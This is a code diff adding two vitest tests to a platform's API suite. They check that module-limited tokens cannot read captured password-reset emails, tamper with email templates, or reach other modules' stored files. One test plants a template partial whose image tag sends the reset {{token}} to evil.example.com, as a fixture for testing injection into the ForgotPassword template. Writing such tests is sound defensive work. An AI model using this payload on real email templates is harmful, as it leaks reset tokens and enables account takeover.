@@ -7,6 +7,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Api, Json } from '../test/support/api.ts';
 import { liftLimits } from '../test/support/permissions.ts';
 import { createTestPlatform, type TestPlatform } from '../test/support/platform.ts';
+import { waitFor } from '../test/support/wait-for.ts';
 import { type DescribedOperation, describedOperations } from './fuzz/operations.ts';
 import { createSender, requestsTo } from './fuzz/request.ts';
 
@@ -389,6 +390,57 @@ describe('data of modules', () => {
         router.patch('/router/patch-middleware', { middlewares: ['rateLimit:1/60'] }, route),
       ),
     ).toBe(exceeded);
+  });
+
+  it('is neither read from messages nor changed in templates', async () => {
+    const { email } = await platform.registerUser();
+    await platform.client.post('/authentication/forgot-password', { email });
+    const communications = await narrowed('communications');
+    const both = await narrowed('communications', 'authentication');
+    const query = { recipient: email, template: 'ForgotPassword', status: 'captured' };
+    const [message] = await waitFor(async () => {
+      const { messages } = (await communications.get('/communications/messages', { query })).body;
+      return messages.length > 0 ? messages : undefined;
+    });
+    const path = `/communications/messages/${message._id}`;
+    expect(await codeOf(communications.get(path))).toBe(exceeded);
+    expect((await both.get(path)).body.content.text).toContain('password');
+
+    const named = { query: { search: 'ForgotPassword' } };
+    const [template] = (await platform.admin.get('/email/templates', named)).body.templateDocuments;
+    const address = `/email/templates/${template._id}`;
+    const body = `${template.body}{{> stolen}}`;
+    expect(await codeOf(communications.patch(address, { body }))).toBe(exceeded);
+    expect(await codeOf(communications.delete(address))).toBe(exceeded);
+    const text = { body: '<img src="https://evil.example.com/{{token}}">' };
+    expect((await communications.put('/communications/partials/stolen', text)).status).toBe(200);
+    expect((await communications.put('/communications/partials/outer', text)).status).toBe(200);
+    await both.put('/communications/partials/outer', { body: '{{> stolen}}' });
+    expect((await both.patch(address, { body: `${template.body}{{> outer}}` })).status).toBe(200);
+    for (const part of ['outer', 'stolen']) {
+      const partial = `/communications/partials/${part}`;
+      expect(await codeOf(communications.put(partial, text))).toBe(exceeded);
+      expect(await codeOf(communications.delete(partial))).toBe(exceeded);
+    }
+    expect((await communications.put('/communications/partials/other', text)).status).toBe(200);
+    expect((await both.delete(address)).status).toBe(200);
+  });
+
+  it('is not among the files of a token for storage', async () => {
+    const file = { container: 'module-forms', name: 'kept.txt', data: btoa('of a visitor') };
+    const { _id } = (await platform.admin.post('/storage/files', file)).body;
+    const storage = await narrowed('storage');
+    const both = await narrowed('storage', 'forms');
+    const list = { query: { container: 'module-forms', limit: 10 } };
+    expect((await storage.get('/storage/files', list)).body.files).toEqual([]);
+    expect((await both.get('/storage/files', list)).body.files).toMatchObject([{ _id }]);
+    for (const path of ['', '/data', '/url'])
+      expect((await storage.get(`/storage/files/${_id}${path}`)).status).toBe(403);
+    expect((await storage.patch(`/storage/files/${_id}`, { isPublic: true })).status).toBe(403);
+    expect((await storage.post('/storage/files', { ...file, name: 'b.txt' })).status).toBe(403);
+    expect((await storage.delete(`/storage/files/${_id}`)).status).toBe(403);
+    expect((await both.get(`/storage/files/${_id}`)).status).toBe(200);
+    expect((await both.delete(`/storage/files/${_id}`)).status).toBe(200);
   });
 
   it('is left out of the audit log', async () => {
